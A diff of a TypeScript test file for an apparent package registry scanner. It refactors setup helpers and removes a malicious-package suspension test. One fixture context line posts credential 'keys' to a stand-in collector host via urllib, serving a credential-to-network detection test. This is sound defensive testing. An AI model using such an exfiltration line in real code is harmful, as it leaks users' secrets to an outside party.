@@ -2,7 +2,7 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterEach, beforeEach, expect, it, onTestFinished } from 'vitest';
+import { expect, it, onTestFinished } from 'vitest';
 import { packageLooks } from '../../../cli/packages/look-at-package.ts';
 import { printPylock } from '../../../cli/packages/resolve-python.ts';
 import { lookRetryMs } from '../../../registry/scans/package-looks.ts';
@@ -18,14 +18,11 @@ import { parseManifest } from '../../../skills-index/skill/manifest.ts';
 import { rootFingerprint } from '../../../skills-index/trust/root/root.ts';
 import { registryIdOf } from '../../../skills-index/trust/signatures/own-registry.ts';
 import { makePackageWorld } from '../../runner/package-store/package-world.ts';
-import { approve, makeSkill, publish, type Skill, scan } from '../road.ts';
-import { makeStaffedWorld, type Staffed } from '../world.ts';
+import { makeSkill, type Skill } from '../road.ts';
+import { approveIn, expectAnswer, publishIn, rowsOf, scanIn } from '../steps.ts';
+import { eachWorld } from '../world.ts';
 
-let world: Staffed;
-beforeEach(async () => {
-  world = await makeStaffedWorld();
-});
-afterEach(() => world.close());
+const world = eachWorld();
 
 const inProcess: ScanPool = {
   isolation: 'none: a test',
@@ -70,10 +67,9 @@ async function lookAt(
   const indexes = { python: { url: `file://${index}` } };
   writeFileSync(join(home, 'host.json'), JSON.stringify({ indexes, advisories }));
   const skill = skillWith(one);
-  expect((await publish(world.send, skill, world.author)).status).toBe(201);
-  const { rita, scanner } = world.tokens;
-  expect((await scan(world.send, scanner, world.scanner, skill, 'pass')).status).toBe(200);
-  expect((await approve(world.send, rita, world.rita, skill)).status).toBe(201);
+  await expectAnswer(publishIn(world, skill), 201);
+  await expectAnswer(scanIn(world, skill), 200);
+  await expectAnswer(approveIn(world, skill), 201);
   const stop = new AbortController();
   const lines: string[] = [];
   await workJobs({
@@ -101,7 +97,7 @@ async function lookAt(
   return lines;
 }
 
-const remembered = async () => (await world.registry.db.read.select().from(packages))[0];
+const remembered = async () => (await rowsOf(world, packages))[0];
 
 it('an honest package is remembered with what it is', async () => {
   const { index, wheel } = makePackageWorld();
@@ -116,7 +112,7 @@ it('an honest package is remembered with what it is', async () => {
     facts: { file: 'tool-1.0-py3-none-any.whl', licence: 'MIT', isNative: false, read: 'whole' },
     scan: { verdict: 'pass', findings: [], ruleSet: ruleSetDigest() },
   });
-  expect(await world.registry.db.read.select().from(packageAdvisories)).toMatchObject([
+  expect(await rowsOf(world, packageAdvisories)).toMatchObject([
     { advisory: 'PYSEC-2026-1', isMalware: false },
   ]);
   expect(await listDoubts(world.registry)).toEqual([]);
@@ -143,14 +139,6 @@ urllib.request.urlopen('https://collector.example/', data=keys)
   expect((await listDoubts(world.registry)).map(({ why }) => why)).toEqual([
     expect.stringContaining('flow/credential-file-to-network at tool/__init__.py:3'),
   ]);
-});
-
-it('a malicious package suspends the version', async () => {
-  const { index, wheel } = makePackageWorld();
-  const one = wheel('tool', {});
-  await lookAt(one, { index, advisory: 'MAL-2026-1' });
-  const answer = await world.send('/api/v1/versions/@acme/words/1.0.0');
-  expect(await answer.json()).toMatchObject({ status: 'suspended' });
 });
 
 it('a package that no index has is remembered with the reason', async () => {
